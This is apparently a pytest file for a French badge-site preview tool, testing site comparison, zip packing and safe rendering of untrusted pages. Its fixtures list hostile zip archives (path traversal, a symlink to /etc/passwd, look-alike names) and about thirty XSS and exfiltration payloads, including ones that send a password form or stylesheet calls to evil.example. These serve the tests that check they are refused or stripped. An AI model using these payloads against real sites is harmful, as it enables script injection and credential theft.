"""A preview of a proposal: what changes, what is packed, and what a stranger's page becomes."""

from __future__ import annotations

import io
import stat
import zipfile
from collections.abc import Mapping
from html.parser import HTMLParser

import pytest

from badgeons.base.settings import Segments, Settings
from badgeons.previewing import packing
from badgeons.previewing.comparing import compare_sites
from badgeons.previewing.errors import PreviewError
from badgeons.previewing.folder import check_address, preview_files
from badgeons.previewing.links import file_of
from badgeons.previewing.packing import PackedPreview, pack_preview, read_preview
from badgeons.previewing.pictures import pictures_of
from badgeons.previewing.shown_pages import Frame

SITE = "https://badges.example.org/ici/"
SETTINGS = Settings(base_url=SITE, language="fr")
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8"><circle cx="4" cy="4" r="4"/></svg>'
PAGE = (
    f'<!doctype html><html lang="fr"><head><title>Vélo &amp; co</title>'
    f'<link rel="canonical" href="{SITE}badges/a/">'
    '<link rel="stylesheet" href="../../assets/a.css"><script>run()</script></head>'
    '<body data-md-color-scheme="slate"><h1 onclick="run()">A</h1><img src="../../img/a.svg" alt="">'
    '<img src="../../img/gone.svg" alt="<img src=x onerror=run()> b">'
    '<a href="../b/">B</a><a href="../../data/a.json">J</a>'
    '<a href="../a/#x">A</a></body></html>'
)
BEFORE = {"index.html": b"x", "badges/b/index.html": b"b", "badges/c/index.html": b"c", "search.json": b"1"}
AFTER = {
    "index.html": b"x",
    "badges/a/index.html": PAGE.encode(),
    "badges/b/index.html": b"B",
    "badges-delivres/1/index.html": b"n",
    "search.json": b"2",
    "assets/a.css": b"p{}",
    "img/a.svg": SVG,
    "img/other.svg": SVG,
}


def test_what_changes_between_two_sites() -> None:
    changes = compare_sites(BEFORE, AFTER, Segments())
    assert list(changes.pages.items()) == [
        ("badges/a/index.html", "added"),
        ("badges/b/index.html", "changed"),
        ("badges/c/index.html", "removed"),
    ]
    assert changes.files["search.json"] == "changed"
    assert compare_sites(AFTER, AFTER, Segments()).pages == {}
    other_commit = {**AFTER, "data/provenance.json": b"{}"}
    assert compare_sites(AFTER, other_commit, Segments()).files == {}


def test_the_pages_that_change_are_packed_with_what_they_show() -> None:
    changes = compare_sites(BEFORE, AFTER, Segments())
    packed = pack_preview(changes, AFTER)
    assert packed == pack_preview(changes, dict(reversed(AFTER.items())))
    preview = read_preview(packed)
    assert preview.pages == changes.pages
    assert set(preview.files) == {
        "badges/a/index.html", "badges/b/index.html", "assets/a.css", "img/a.svg",
    }  # fmt: skip


@pytest.mark.parametrize(
    ("reference", "path"),
    [
        ("../b/", "badges/b/index.html"),
        ("x.svg?a#b", "badges/a/x.svg"),
        ("../..", "index.html"),
        ("%2e%2e/c.png", "badges/c.png"),
        ("../../../out.png", None),
        ("/root.png", None),
        ("//evil.example/a.png", None),
        ("https://evil.example/a.png", None),
        ("javascript:run()", None),
        ("#x", None),
        ("//[", None),
    ],
)
def test_where_a_link_leads(reference: str, path: str | None) -> None:
    assert file_of("badges/a/index.html", reference) == path


def zipped(members: Mapping[str, bytes], mode: int = 0, twice: str = "") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            info = zipfile.ZipInfo(name)
            info.external_attr = mode << 16
            archive.writestr(info, content, zipfile.ZIP_DEFLATED)
        if twice:
            archive.writestr(zipfile.ZipInfo(twice), b"")
    return buffer.getvalue()


LIST = {"changes.json": b'{"pages": {}}'}
MANY = b",".join(b'"%d": ""' % number for number in range(packing.MAX_CHANGES + 1))
HOSTILE = {
    "no archive": b"PK",
    "no list": zipped({"site/a.html": b""}),
    "a list that is none": zipped({"changes.json": b"[]"}),
    "a list of too many": zipped({"changes.json": b'{"pages": {%s}}' % MANY}),
    "two lists": zipped(LIST | {"site/changes.json": b"{}"}),
    "a way out": zipped(LIST | {"site/../a.html": b""}),
    "a way out, deeper": zipped(LIST | {"site/a/../../../a.html": b""}),
    "from the root": zipped(LIST | {"/site/a.html": b""}),
    "beside the site": zipped(LIST | {"a.html": b""}),
    "a backslash": zipped(LIST | {"site/..\\a.html": b""}),
    "a hidden file": zipped(LIST | {"site/.git/config.html": b""}),
    "a program": zipped(LIST | {"site/a.js": b""}),
    "a document for verifiers": zipped(LIST | {"site/ob/a.json": b"{}"}),
    "a page of XML": zipped(LIST | {"site/a.xhtml": b""}),
    "a name of two lines": zipped(LIST | {"site/a\n.html": b""}),
    "another script": zipped(LIST | {"site/а.html": b""}),
    "a link": zipped(LIST | {"site/a.html": b"/etc/passwd"}, mode=stat.S_IFLNK | 0o777),
    "a folder": zipped(LIST | {"site/a.html/": b""}),
    "the same name twice": zipped(LIST | {"site/a.html": b""}, twice="site/A.html"),
    "too many files": zipped(LIST | {f"site/{i}.html": b"" for i in range(packing.MAX_FILES + 1)}),
    "a file too big": zipped(LIST | {"site/a.html": bytes(packing.MAX_FILE_BYTES + 1)}),
    "too much in all": zipped(
        LIST | {f"site/{i}.html": bytes(packing.MAX_FILE_BYTES) for i in range(7)}
    ),
}  # fmt: skip


@pytest.mark.parametrize("case", HOSTILE)
def test_an_archive_that_we_did_not_pack_is_refused(case: str) -> None:
    with pytest.raises(PreviewError) as refusal:
        read_preview(HOSTILE[case])
    assert refusal.value.in_words("en") != refusal.value.in_words("fr")


def test_paths_of_the_list_are_ours_alone() -> None:
    packed = zipped({"changes.json": b'{"pages": {"a.html": "added", "../b.html": "added", "c.html": "x"}}'})
    assert read_preview(packed).pages == {"a.html": "added"}


class Read(HTMLParser):
    """The start tags of a page, with their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attributes)))


def shown(html: str, path: str = "badges/a/index.html") -> str:
    return Frame(SITE, "fr").page(path, html, AFTER).decode()


def test_a_page_says_that_it_is_a_preview_and_leads_to_the_site() -> None:
    html = shown(PAGE)
    tags = Read(html).tags
    assert ("meta", {"name": "robots", "content": "noindex,nofollow,noarchive"}) in tags
    assert "<title>Aperçu : Vélo &amp; co</title>" in html
    assert "rien n’y est publié" in html and 'data-md-color-scheme="slate"' in html
    assert [attributes["href"] for tag, attributes in tags if tag == "link"] == ["../../assets/a.css"]
    assert [attributes["href"] for tag, attributes in tags if tag == "a"] == [
        "../../../", "../b/", f"{SITE}data/a.json", "../a/#x",
    ]  # fmt: skip
    assert [attributes.get("src") for tag, attributes in tags if tag == "img"] == ["../../img/a.svg"]
    assert "&lt;img src=x onerror=run()&gt; b" in html, "the words of a picture that is not there"
    assert html.index("Content-Security-Policy") < html.index("<title>")


ACTING = (
    "<script>run()</script>",
    "<script src=//evil.example/a.js></script>",
    "<img src=x onerror=run()>",
    "<svg><script>run()</script></svg>",
    "<svg onload=run()><a xlink:href=javascript:run()><text>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>run()</script>'></foreignObject></svg>",
    "<svg><animate attributeName=href values=javascript:run() /></svg>",
    "<svg><use href='data:image/svg+xml,x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=run()>",
    "<a href=javascript:run()>x</a>",
    "<a href='java\nscript:run()'>x</a>",
    "<a href=data:text/html,x>x</a>",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<input type=text onfocus=run() autofocus>",
    "<button formaction=javascript:run()>x</button>",
    "<iframe src=//evil.example></iframe>",
    "<object data=x></object><embed src=x>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=Content-Security-Policy content=''>",
    "<link rel=stylesheet href=//evil.example/a.css><link rel=preconnect href=//evil.example>",
    "<style>@import '//evil.example/a.css'</style>",
    "<p style='background:url(//evil.example/a)'>x</p>",
    "<img src=//evil.example/a.png><img srcset='//evil.example/a.png 1x'>",
    "<video src=//evil.example/a><audio src=//evil.example/a>",
    "<noscript><p title='</noscript><img src=x onerror=run()>'>",
    "<textarea><img src=x onerror=run()></textarea>",
    "<template><script>run()</script></template>",
    "<title></title><script>run()</script></title>",
    "<!--><script>run()</script>-->",
    "<body onload=run() data-md-color-scheme='\"><script>run()</script>'>",
    "<link rel='stylesheet' href='../../assets/a.css\"><script>run()</script>'>",
    "</body></html><script>run()</script>",
    "\ufeff<script>run()</script>\x00<scr\x00ipt>run()</script>",
)
ALLOWED_HEAD = {"charset", "content", "http-equiv", "name"}


@pytest.mark.parametrize("html", ACTING)
def test_nothing_of_a_page_acts(html: str) -> None:
    tags = Read(shown(f"<html><head><title>x</title></head><body>{html}</body></html>")).tags
    assert not {tag for tag, _ in tags} & {
        "script", "iframe", "object", "embed", "form", "base", "video", "audio", "use", "animate", "math",
        "foreignobject", "textarea", "select", "template", "noscript",
    }  # fmt: skip
    assert len([tag for tag, _ in tags if tag == "meta"]) == 5, "those of ours"
    for tag, attributes in tags:
        assert not [name for name in attributes if name.startswith("on")], tag
        assert set(attributes) & {"srcset", "action", "formaction", "srcdoc", "xlink:href"} == set()
        assert "evil.example" not in (attributes.get("src") or attributes.get("style") or "")
        if tag == "link":
            assert attributes == {"rel": "stylesheet", "href": "../../assets/a.css"}
        if tag == "a":
            assert (attributes.get("href") or "#").startswith(("../", "https://", "http://", "#")), attributes
    assert not [1 for tag, attributes in tags if tag == "style" and attributes]


def test_a_drawing_that_acts_and_pages_of_persons_are_left_out() -> None:
    files = {
        "a.html": b"<p>a</p>",
        "good.svg": SVG,
        "bad.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="run()"/>',
        "bad.png": b"<html><script>run()</script>",
        "badges-delivres/1/index.html": b"x",
    }
    pages = {"a.html": "changed", "c/index.html": "removed"}
    made = {
        file.path: file.content
        for file in preview_files(PackedPreview(pages, files), SETTINGS, "https://f/1")
    }
    assert set(made) == {"index.html", "site/a.html", "site/good.svg"}
    index = made["index.html"].decode()
    assert '<a href="site/a.html">/a.html</a>' in index and "<li>/c/</li>" in index
    assert 'href="https://f/1"' in index and "noindex" in index


@pytest.mark.parametrize(
    ("address", "sentence"),
    [
        ("https://badges.example.org/apercus/", "l’adresse du site"),
        ("https://BADGES.example.org:8443/", "l’adresse du site"),
        ("http://apercus.example.net/", "https://"),
        ("apercus.example.net", "https://"),
        ("https://", "https://"),
    ],
)
def test_previews_are_never_on_the_site_s_own_host(address: str, sentence: str) -> None:
    with pytest.raises(PreviewError, match=sentence):
        check_address(address, SETTINGS)
    check_address("https://apercus.example.net/catalogue/", SETTINGS)


def test_what_a_picture_shows() -> None:
    pictures = list(pictures_of(compare_sites(BEFORE, AFTER, Segments()), "fr"))
    assert [picture.name for picture in pictures[:2]] == [
        "01-badges-a-telephone.png", "01-badges-a-ordinateur.png",
    ]  # fmt: skip
    assert pictures[0].size[0] > 2 * 390 and "n’existe pas encore" in pictures[0].html
    assert 'src="after/badges/a/index.html"' in pictures[0].html
    assert "n’existe plus" in pictures[-1].html
